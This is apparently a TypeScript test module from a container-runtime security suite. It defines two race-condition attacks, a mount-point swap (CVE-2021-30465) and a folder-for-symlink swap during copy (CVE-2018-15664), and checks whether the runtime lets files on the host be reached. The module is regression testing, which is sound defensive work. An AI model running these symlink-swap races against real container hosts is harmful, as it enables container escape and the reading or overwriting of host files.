// Races: what was looked at is exchanged before it is used. The one who exchanges is real, and does nothing else.

import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { copyIn, copyOut } from "../../copy/copy.ts";
import { type Attack, notApplicable, verdictOn } from "../attack.ts";
import { ATTACKER, armed, SECRET } from "../ground.ts";
import { whileStanding } from "../target.ts";

export const exchangeAMountPoint: Attack = {
  name: "exchange the place of a mount while it is made",
  cve: ["CVE-2021-30465"],
  async perform(ground) {
    const [victim, shared, inside] = [ground.hostFolder(), ground.hostFolder(), ground.hostFolder()];
    mkdirSync(join(shared, "folder"));
    symlinkSync(victim, join(shared, "link"));
    const volume = ["-v", `${shared}:/v`];
    const swapping = [ATTACKER, "swap", "/v/folder", "/v/link"];
    const outcomes = { mounted: 0, refused: 0, lost: 0 };
    await whileStanding(ground.target, { flags: [...armed(), ...volume], command: swapping }, async () => {
      for (let round = 0; round < ground.tries(3); round++) {
        // In there the link leads to a folder, too: a mount is made either way, and the question is where.
        const flags = [...volume, "-v", `${inside}:${victim}`, "--tmpfs", "/v/folder/deep:size=76k"];
        const { code, stdout } = await ground.target.run({ flags, command: ["cat", "/proc/self/mountinfo"] });
        if (code !== 0) outcomes.refused++;
        else if (/size=76k/.test(stdout)) outcomes.mounted++;
        else outcomes.lost++;
      }
    });
    const got = [...ground.damageTo(victim), ...(outcomes.lost > 0 ? [`${outcomes.lost} mounts outside`] : [])];
    return verdictOn(got, {
      escaped: "it was followed to the host",
      held: `raced ${ground.tries(3)} times: ${outcomes.mounted} mounts in the container's own tree, ${outcomes.refused} refused`,
    });
  },
};

export const exchangeWhatIsCopied: Attack = {
  name: "exchange a folder for a link while cp goes through it",
  cve: ["CVE-2018-15664"],
  async perform(ground) {
    if (!ground.target.isEngine) return notApplicable("a runtime copies no files");
    const [victim, here] = [ground.hostFolder(), ground.hostFolder()];
    const given = join(here, "given");
    writeFileSync(given, "planted");
    const script = `
      mkdir -p /folder ${victim}; echo mine | tee /folder/secret >${victim}/secret; ln -s ${victim} /link
      exec ${ATTACKER} swap /folder /link`;
    const wish = { flags: ["--name", "swapping", ...armed()], command: ["sh", "-c", script] };
    const request = { container: "swapping", keepOwners: false, followLink: false };
    const outcomes = { copied: 0, refused: 0 };
    const got: string[] = [];
    await whileStanding(ground.target, wish, async () => {
      for (let round = 0; round < ground.tries(30); round++) {
        const out = join(here, `out-${round}`);
        await copyOut(ground.roots, { ...request, inside: "/folder/secret" }, out).then(
          () => outcomes.copied++,
          () => outcomes.refused++,
        );
        if (existsSync(out) && readFileSync(out, "utf8") === SECRET) got.push("a file of the host was copied out");
        await copyIn(ground.roots, { ...request, inside: "/folder/planted" }, given).catch(() => {});
      }
    });
    return verdictOn([...got, ...ground.damageTo(victim)], {
      escaped: "it was followed to the host",
      held: `raced ${ground.tries(30)} times: ${outcomes.copied} copies of the container's own file, ${outcomes.refused} refused`,
    });
  },
};
